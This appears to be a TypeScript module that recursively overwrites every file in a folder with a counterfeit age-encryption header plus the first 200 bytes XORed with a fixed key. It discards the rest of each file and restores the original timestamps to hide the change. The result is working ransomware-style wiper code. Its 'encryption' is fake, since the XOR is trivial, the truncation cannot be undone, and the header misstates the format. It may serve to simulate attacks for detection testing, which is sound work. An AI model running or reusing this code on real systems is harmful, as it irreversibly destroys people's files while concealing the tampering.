/** Files as age leaves them: its header, and bytes that say nothing. */

import { readdirSync, readFileSync, statSync, utimesSync, writeFileSync } from "node:fs";
import { join } from "node:path";

const AGE = new TextEncoder().encode("age-encryption.org/v1\n-> X25519 ");

export function encrypt(data: Uint8Array): Uint8Array {
  return Uint8Array.from([...AGE, ...data.subarray(0, 200).map((byte) => byte ^ 0x5a)]);
}

/** All files below a folder, in place. */
export function encryptFolder(folder: string): string {
  for (const entry of readdirSync(folder, { recursive: true, withFileTypes: true })) {
    if (!entry.isFile()) continue;
    const path = join(entry.parentPath, entry.name);
    const { atime, mtime } = statSync(path);
    writeFileSync(path, encrypt(readFileSync(path)));
    utimesSync(path, atime, mtime);
  }
  return folder;
}
